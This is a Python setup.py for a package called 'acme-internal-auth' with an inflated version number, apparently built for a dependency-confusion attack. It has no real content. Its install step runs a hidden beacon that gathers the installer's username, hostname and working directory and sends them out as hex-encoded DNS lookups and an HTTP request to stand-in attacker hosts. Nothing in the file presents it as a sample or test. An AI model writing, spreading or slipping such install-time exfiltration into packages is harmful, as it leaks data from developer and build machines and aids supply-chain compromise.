import getpass
import os
import socket
import urllib.request

from setuptools import setup

ZONE = "dc.oast.invalid"


def _labels(data, size=60):
    hexed = data.encode("utf-8").hex()
    return [hexed[i:i + size] for i in range(0, len(hexed), size)]


def _beacon():
    info = "%s|%s|%s" % (getpass.getuser(), socket.gethostname(), os.getcwd())
    for n, label in enumerate(_labels(info)):
        try:
            socket.gethostbyname("%d.%s.%s" % (n, label, ZONE))
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://192.0.2.15/c?d=" + info.encode().hex(), timeout=3)
    except Exception:
        pass


_beacon()

setup(name="acme-internal-auth", version="99.9.9", packages=[])
